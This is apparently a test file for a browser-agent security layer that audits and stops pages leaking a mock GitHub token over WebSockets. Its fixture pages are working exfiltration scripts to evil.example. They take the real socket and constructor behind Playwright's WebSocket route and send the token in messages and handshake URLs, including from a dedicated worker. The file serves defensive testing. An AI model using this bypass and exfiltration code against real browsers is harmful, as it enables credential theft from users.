// In the user's Chrome (no egress proxy) Playwright's WebSocket route is all that judges a page's sockets, and a page
// can reach the browser's own WebSocket behind it (the route's stand-in keeps the real socket on `_ws`). Found by
// attack reviews: a page that opened a socket before a sensitive read sent what it saw on the real one after it, and
// took the native constructor from it to open fresh sockets carrying it in their URL, every 200 ms (or every 4 ms),
// none of it in the audit. No CDP hook can hold a WebSocket (Chromium 156); the tab's Network domain reports each
// handshake and message as it goes (browser/nativeSockets.ts): each one past the route is in the audit as sent
// although refused, and the first stops the scripts that sent it, then the tab; a dedicated worker's own sockets are
// watched by the browser-wide gate's session, and the worker is paused. What leaves before that is the residual
// (todo).
// Assertions on what the attacker's server received and on the audit.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WebSocketServer } from 'ws';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { sentAlthoughRefused, startInProcess } from '../helpers/inProcessMcp.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_zzSharedMockToken4242';

/**
 * A page that opens a socket through the route before any read, takes the real socket and its constructor from it,
 * then frames the sensitive page (the read); `tick` runs every `every` ms once it has the token (`seen`).
 */
const leakingPage = (
  name: string,
  tick: string,
  every: number,
  sensitive: string,
) => `<title>${name}</title><script>
  const evil = location.origin.replace('https', 'wss').replace(/\\/\\/[^:]+:/, '//evil.example:');
  const socket = new WebSocket(evil + '/${name}');
  let raw, Native, seen = '', n = 0;
  addEventListener('message', (e) => { if (String(e.data).includes('ghp_')) seen = e.data; });
  socket.onopen = () => {
    socket.send('hello ${name}');
    const grab = setInterval(() => { if (socket._ws) { raw = socket._ws; Native = raw.constructor; clearInterval(grab); } }, 10);
    setTimeout(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(sensitive)}; document.body.append(f); }, 300);
  };
  setInterval(() => { if (!seen || !raw) return; n++; ${tick} }, ${every});
</script>`;

describe("the user's Chrome: a page's socket past the route after a sensitive read", () => {
  let site: Fixture;
  let chrome: UserChrome;
  const messages: string[] = [];
  const upgrades: string[] = [];
  const url = (host: string, path: string) => site.url(host, path);
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const leaked: Record<string, string[]> = {};

  before(async () => {
    const sensitive = () => url('github.com', '/settings/tokens');
    site = await startFixture(
      {
        // The sensitive page tells its parent what it shows: the stand-in for a page that watched the read.
        '/settings/tokens': (_req, _body, res) =>
          html(
            res,
            `<title>Tokens</title><p id="t">${token}</p><script>parent.postMessage(document.getElementById('t').textContent, '*')</script>`,
          ),
        '/loop': (_req, _body, res) =>
          html(
            res,
            leakingPage(
              'loop',
              `try { raw.send('raw ' + n + ' ' + seen) } catch (e) {} try { new Native(evil + '/fresh?n=' + n + '&d=' + seen) } catch (e) {}`,
              200,
              sensitive(),
            ),
          ),
        // One tick: a message and three handshakes at once.
        '/burst': (_req, _body, res) =>
          html(
            res,
            leakingPage(
              'burst',
              `if (n > 1) return; raw.send('raw ' + seen); for (const b of ['b1', 'b2', 'b3']) new Native(evil + '/' + b + '?d=' + seen);`,
              200,
              sensitive(),
            ),
          ),
        // A handshake every 4 ms until the tab is stopped.
        '/stream': (_req, _body, res) =>
          html(
            res,
            leakingPage(
              'stream',
              `try { new Native(evil + '/s?n=' + n + '&d=' + seen) } catch (e) {}`,
              4,
              sensitive(),
            ),
          ),
        // A dedicated worker with a socket of its own, told the token once.
        '/worker': (_req, _body, res) =>
          html(
            res,
            `<title>Worker</title><script>
            const evil = location.origin.replace('https', 'wss').replace(/\\/\\/[^:]+:/, '//evil.example:');
            const w = new Worker(URL.createObjectURL(new Blob([
              "const s = new WebSocket(" + JSON.stringify(evil + '/worker') + "); let seen = ''; s.onopen = () => s.send('hello worker');" +
              "onmessage = (e) => { seen = e.data; }; let n = 0; setInterval(() => { if (!seen) return; n++; try { s.send('w ' + n + ' ' + seen) } catch (x) {} }, 200);"
            ])));
            addEventListener('message', (e) => { if (String(e.data).includes('ghp_')) w.postMessage(e.data); });
            setTimeout(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(sensitive())}; document.body.append(f); }, 1500);
            </script>`,
          ),
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>the user’s page</p>'),
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) => {
      upgrades.push(`${req.headers.host} ${req.url}`);
      sockets.handleUpgrade(req, socket, head, (ws) =>
        ws.on('message', (data) => messages.push(`${req.headers.host} ${req.url}: ${String(data)}`)),
      );
    });
    chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('example.com', '/mine') });
  });
  after(async () => {
    await chrome?.close();
    await site?.close();
  });

  /** Opens `path` as an agent tab, lets it work, and says what left with the token and what the audit says left. */
  async function scenario(path: string) {
    const [m0, u0] = [messages.length, upgrades.length];
    const tabward = await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
    const mcp = await tabward.connect();
    mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    try {
      const opened = await mcp.call('new_page', { url: url('news.example', path) });
      assert.equal(opened.isError, false, opened.text);
      const name = path.slice(1);
      await waitFor(
        'the socket says hello',
        () => messages.slice(m0).some((m) => m.includes(`hello ${name}`)),
        {
          timeoutMs: 20_000,
        },
      );
      await quietly(4_000);
      const left = [
        ...messages.slice(m0).filter((m) => m.includes(token)),
        ...upgrades.slice(u0).filter((u) => u.includes(token)),
      ];
      leaked[name] = left;
      const told = sentAlthoughRefused(mcp.audit());
      const snapshot = await mcp.call('take_snapshot');
      // Once stopped, the tab sends nothing more.
      await quietly(1_500);
      const later = [
        ...messages.slice(m0).filter((m) => m.includes(token)),
        ...upgrades.slice(u0).filter((u) => u.includes(token)),
      ].slice(left.length);
      return { left, later, told, stopped: /crashed/.test(snapshot.text) };
    } finally {
      await mcp.close();
      await tabward.close();
    }
  }

  // How many leave before the tab is stopped depends on how fast tabward hears of the first (a loaded machine: more);
  // that every one is told, and that nothing leaves once the tab is stopped, does not.
  for (const path of ['/loop', '/burst', '/stream'])
    test(`${path}: what goes past the route is told, each one, and the tab is stopped: nothing more leaves`, async () => {
      const { left, later, told, stopped } = await scenario(path);
      assert.deepEqual(
        later,
        [],
        `evil.example received more after the tab was stopped (${left.length} before)`,
      );
      if (left.length === 0) return;
      assert.ok(stopped, 'the tab that sent it was not stopped');
      // Each handshake that arrived is named in the audit by its path; a message by its socket's.
      for (const line of left) {
        const where = /\/[a-z0-9]+(?=[?: ])/.exec(line.split(' ')[1] ?? '')?.[0] ?? '?';
        assert.ok(
          told.some((url) => url.includes(where)),
          `${line} left, and the audit does not say so: ${told.join(' | ')}`,
        );
      }
    });

  test('a dedicated worker’s own socket: what it sends is told, each one, and the worker is paused: nothing more leaves', async () => {
    const { left, later, told } = await scenario('/worker');
    assert.deepEqual(
      later,
      [],
      `evil.example received more after the worker was paused (${left.length} before)`,
    );
    // A message on a socket opened before tabward watched the worker is told with no address of its own.
    assert.ok(told.length >= left.length, `${left.length} left, ${told.length} told: ${told.join(' | ')}`);
  });

  test('nothing a page saw after a sensitive read reaches another host over a WebSocket', {
    todo: "residual: in the user's Chrome what a page sends past the socket route before tabward sees it leaves (no CDP hook holds a WebSocket)",
  }, () => {
    assert.deepEqual(Object.values(leaked).flat(), [], 'the token read on github.com reached evil.example');
  });
});
